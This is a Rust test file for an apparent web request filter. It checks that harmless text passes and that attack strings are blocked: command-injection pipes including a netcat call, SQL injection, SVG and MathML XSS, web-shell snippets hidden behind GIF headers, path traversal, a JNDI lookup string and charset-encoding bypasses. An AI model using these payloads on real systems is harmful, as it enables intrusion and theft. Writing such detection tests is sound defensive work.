//! Texts and requests of usual programs that resemble attacks, and attacks that resemble these.

use crate::send::{FORM, Sent, run, view};

/// Values that pass, and values that are denied.
const PASSING: &[&str] = &[
    "| id | name |",
    "a | id | b",
    "id | title | w",
    "Columns: a | who | b",
    "| ls | cat |",
    "Home | id | name",
    "| id | name |\n|----|------|\n| 1 | cat |\n| 2 | who |",
    "| id | name |\n|:--|--:|\n| 1 | Bob |",
    "at java.base/java.lang.Thread.run(Thread.java:829)",
    "Caused by: java.lang.ClassNotFoundException: x\n\tat java.lang.Class.forName(Class.java:264)",
    "at java.lang.Class.forName0(Native Method)\n\tat java.lang.Class.forName(Unknown Source)",
    "at java.util.concurrent.ThreadPoolExecutor$Worker.run(ThreadPoolExecutor.java:628)\n\
     at java.lang.reflect.Method.invoke(Method.java:498)",
    "java.lang.reflect.InvocationTargetException\n\tat \
     jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:118)",
    "at java.io.FileInputStream.<init>(FileInputStream.java:93)",
    "at java.net.URLClassLoader$1.run(URLClassLoader.java:366)",
    "java.rmi.ConnectException: Connection refused to host",
    "use the `id` attribute",
    "I use `ls` and `pwd`",
    "I like sleep (8) hours",
    "results of the benchmark (5)",
    "<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>",
    "<math><mi>x</mi><mo>=</mo><mn>1</mn></math>",
    "body { margin: 0 } @import url('x.css');",
    "@import url(https://fonts.example/css?family=Inter);",
];

const DENIED: &[&str] = &[
    "x | id",
    "| id",
    "x | id | nc 192.0.2.1 80",
    "| whoami |",
    "x | ls -la | sh",
    "|id|",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(cmd).start()",
    "java.lang.Class.forName(name)",
    "java.lang.Class.forName('java.lang.Runtime')",
    "java.lang.Thread.sleep(5000)",
    "x java.lang.reflect.Method y",
    "java.lang.ProcessBuilder.start(cmd)",
    "`id`",
    "a`id`b",
    "1 and sleep (5)",
    "1' or sleep (5)-- -",
    "(select sleep (5))",
    "1;sleep (5)--",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(2)//\"></svg>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "@import 'javascript:alert(1)'",
];

#[test]
fn texts_that_resemble_attacks() {
    let view = view(&crate::builtin(), &[]);
    let mut wrong = Vec::new();
    for (texts, is_denied) in [(PASSING, false), (DENIED, true)] {
        for text in texts {
            let as_json = format!("{{\"text\":{}}}", text.as_json());
            for sent in [
                Sent::form("/", &[("text", text.as_bytes())]),
                Sent::post("/", "application/json", as_json),
            ] {
                let outcome = run(&view, &sent);
                if outcome.denied.is_some() != is_denied {
                    wrong.push(format!("{text:?}: {outcome:?}"));
                }
            }
        }
    }
    for (path, is_denied) in [
        ("/ping/8.8.8.8;id", true),
        ("/ping/8.8.8.8;sleep%2010", true),
        ("/ping/8.8.8.8%7Cwhoami", true),
        ("/ping/8.8.8.8;ls%20-la", true),
        ("/x;id=5/y", false),
        ("/x;v=1;type=a", false),
        ("/Q&A;identity/x", false),
        ("/files/cat;dog.jpg", false),
    ] {
        let outcome = run(&view, &Sent::get(path));
        if outcome.denied.is_some() != is_denied {
            wrong.push(format!("{path}: {outcome:?}"));
        }
    }
    let link = Sent::query("/search", &[("q", b"[b](../../../docs/index.md)")]);
    let outcome = run(&view, &link);
    assert!(outcome.denied.is_none(), "{outcome:?}");
    for path in ["../../../etc/x", "a/../../b/../../c.txt", " ../../../x", "x=../../y", "..\\..\\x"]
    {
        let outcome = run(&view, &Sent::query("/", &[("q", path.as_bytes())]));
        if !outcome.ids.contains(&1_002_002) {
            wrong.push(format!("{path}: {outcome:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A string of JSON.
trait AsJson {
    fn as_json(&self) -> String;
}

impl AsJson for &str {
    fn as_json(&self) -> String {
        let escaped = self.replace('\\', "\\\\").replace('"', "\\\"");
        format!("\"{}\"", escaped.replace('\n', "\\n").replace('\t', "\\t"))
    }
}

/// A part of a form, with the type of the whole.
fn part(of_part: &str, content: &[u8]) -> Sent {
    let head = format!("--B\r\nContent-Disposition: form-data; {of_part}\r\n\r\n");
    let body = [head.as_bytes(), content, b"\r\n--B--\r\n"].concat();
    Sent::post("/", "multipart/form-data; boundary=B", body)
}

#[test]
fn programs_of_servers_in_images_are_found() {
    let view = view(&crate::builtin(), &[]);
    for code in [
        "<%eval request(\"c\")%>",
        "<%execute request(\"c\")%>",
        "<%Execute(Request(\"c\"))%>",
        "<% eval(request(\"c\")) %>",
        "<%Response.Write(CreateObject(\"wscript.shell\").Exec(\"cmd\").StdOut.ReadAll)%>",
        "<jsp:scriptlet>Runtime.getRuntime();</jsp:scriptlet>",
        "<cfexecute name=\"cmd\"></cfexecute>",
        "<!--#exec cmd=\"id\"-->",
        "<?@eval($_POST[1]);?>",
        "<?eval($_POST[1]);?>",
        "<?php f();",
    ] {
        for name in ["x.gif", "x.jpg", "x"] {
            let content = ["GIF89a".as_bytes(), code.as_bytes(), &[0xff, 0, 0xee]].concat();
            let of_part = format!("name=f; filename={name}\r\nContent-Type: image/gif");
            let outcome = run(&view, &part(&of_part, &content));
            assert!(outcome.denied.is_some(), "{name} {code}: {outcome:?}");
        }
    }
    for harmless in [
        &b"GIF89a<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>"[..],
        b"GIF89a<%a\x00\xff<%eval\x01\x02\x03\xff\xff\xff\xff\xff\xff",
        b"GIF89a<?adobe-xap-filters esc=\"CRLF\"?>",
    ] {
        let of_part = "name=f; filename=x.gif\r\nContent-Type: image/gif";
        let outcome = run(&view, &part(of_part, harmless));
        assert_eq!(outcome.score, 0, "{}: {outcome:?}", harmless.escape_ascii());
    }
}

#[test]
fn names_of_files_stay_within_a_folder() {
    let view = view(&crate::builtin(), &[]);
    for (name, is_denied) in [
        ("filename=\"photos/2026/x.png\"", false),
        ("filename=\"C:\\fakepath\\x.png\"", false),
        ("filename=\"a..b.png\"", false),
        ("filename=\"../x.png\"", true),
        ("filename=x.png; filename*=UTF-8''..%5Cx.png", true),
        ("filename=\"/etc/cron.d/x\"", true),
        ("filename=x.png\r\nContent-Type: ${jndi:ldap://e/a}", true),
    ] {
        let outcome = run(&view, &part(&format!("name=f; {name}"), b"text"));
        assert_eq!(outcome.denied.is_some(), is_denied, "{name}: {outcome:?}");
    }
}

#[test]
fn charsets_do_not_hide_attacks() {
    let view = view(&crate::builtin(), &[]);
    let form = |charset: &str| format!("{FORM}; charset={charset}");
    for charset in ["euc-kr", "gbk", "big5", "shift_jis", "iso-8859-8-i"] {
        let harmless = Sent::post("/", &form(charset), "a=%C7%D1%B1%DB");
        assert_eq!(run(&view, &harmless).score, 0, "{charset}");
        for attack in
            ["a=%BF%27+or+1%3D1--+", "a=%BF%5C%27+or+1%3D1--+", "a=%81%5C%27+union+select+1,2--+"]
        {
            let outcome = run(&view, &Sent::post("/", &form(charset), attack));
            assert!(outcome.denied.is_some(), "{charset} {attack}: {outcome:?}");
        }
    }
    let xml =
        "<?xml version='1.0' encoding='utf-16'?><a>1' union select password from users-- -</a>";
    let json = "{\"a\":\"1' union select password from users-- -\"}";
    for (kind, text) in [("text/xml", xml), ("application/json", json)] {
        let units =
            format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>();
        for kind in [kind.to_owned(), format!("{kind}; charset=utf-16")] {
            let outcome = run(&view, &Sent::post("/", &kind, &units[..]));
            assert!(outcome.ids.contains(&1_003_001), "{kind}: {outcome:?}");
        }
    }
}
